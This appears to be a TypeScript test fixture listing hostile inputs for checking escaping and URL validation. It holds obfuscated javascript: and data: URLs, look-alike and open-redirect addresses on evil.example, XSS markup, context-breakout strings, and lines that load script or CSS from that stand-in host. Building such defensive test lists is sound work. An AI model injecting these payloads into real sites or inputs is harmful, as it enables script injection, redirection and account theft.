/**
 * Texts that become script or markup wherever they are not escaped: one of each kind in the two public lists
 * «XSS Filter Evasion Cheat Sheet» (OWASP, cheatsheetseries.owasp.org) and «Cross-site scripting cheat sheet»
 * (PortSwigger, portswigger.net/web-security), read in November 2026. Each calls `pwned()` when it succeeds.
 */

const SCHEMES = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  '\u0001javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'java\rscript:pwned()',
  'javascript\t:pwned()',
  'javascript://www.amazon.es/%0apwned()',
  'javascript:/*--></title></style></textarea></script>*/pwned()',
  '&#106;avascript:pwned()',
  '&#x6A;avascript&colon;pwned()',
  'jav&Tab;ascript:pwned()',
  'javascript&#58;pwned()',
  'vbscript:pwned()',
  'livescript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>',
  'blob:https://www.amazon.es/pwned',
  'filesystem:https://www.amazon.es/temporary/x.html',
  'view-source:javascript:pwned()',
  'feed:javascript:pwned()',
];

/** Addresses outside the marketplace, some of which imitate it. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...SCHEMES,
  '//evil.example/',
  '///evil.example/',
  '/\\evil.example/',
  '\\\\evil.example\\',
  'https:evil.example',
  'https:/\\evil.example',
  'https://evil.example/',
  'http://evil.example/?www.amazon.es',
  'https://evil.example#www.amazon.es',
  'https://www.amazon.es.evil.example/',
  'https://www.amazon.es@evil.example/',
  'https://www.amazon.es%2eevil.example/',
  'https://evilamazon.es/',
  'https://amzn.to.evil.example/x',
  'https://xa.co/',
];

/** Those that are invalid for pictures, which may come from any site over https. */
export const HOSTILE_PICTURES = HOSTILE_ADDRESSES.filter((address) => !address.startsWith('https://'));

const MARKUP = [
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x oNeRrOr\n=pwned()>',
  '<img src=x onerror="&#112;wned()">',
  '<img src=`javascript:pwned()`>',
  '<img """><script>pwned()</script>">',
  '<IMG SRC=x ONERROR=pwned()//',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()>',
  '<div style="animation-name:x" onanimationstart=pwned()>',
  '<custom-element contenteditable autofocus onfocus=pwned()>',
  '<script>pwned()',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script\n>pwned()</script\n>',
  '<<script>pwned();//<</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<script>/*\u2028*/pwned()</script>',
  '<svg><script>pwned&lpar;&rpar;</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe onload=pwned()></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template shadowrootmode=open><script>pwned()</script></template>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<button formaction="javascript:pwned()">x</button>',
  '<a href="&#x6A;avascript:pwned()">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<link rel=stylesheet href=x onerror=pwned()>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:pwned())">',
  '<table background="javascript:pwned()">',
  '<!--><script>pwned()</script-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml-stylesheet href="javascript:pwned()"?>',
];

/** Where a text may stand that is not escaped. */
const CLOSED = ['">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>'];

const BREAKOUTS = [
  ...CLOSED.map((end) => `${end}<script>pwned()</script>`),
  '" autofocus onfocus=pwned() x="',
  '` onerror=pwned() `',
  '"};pwned();//',
  "';pwned();//",
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '%253Cscript%253Epwned()%253C/script%253E',
  '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
  '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}}',
  '[x](javascript:pwned())',
  '\u202Egnp.exe<script>pwned()</script>',
];

export const HOSTILE_TEXTS: readonly string[] = [...SCHEMES, ...MARKUP, ...BREAKOUTS];
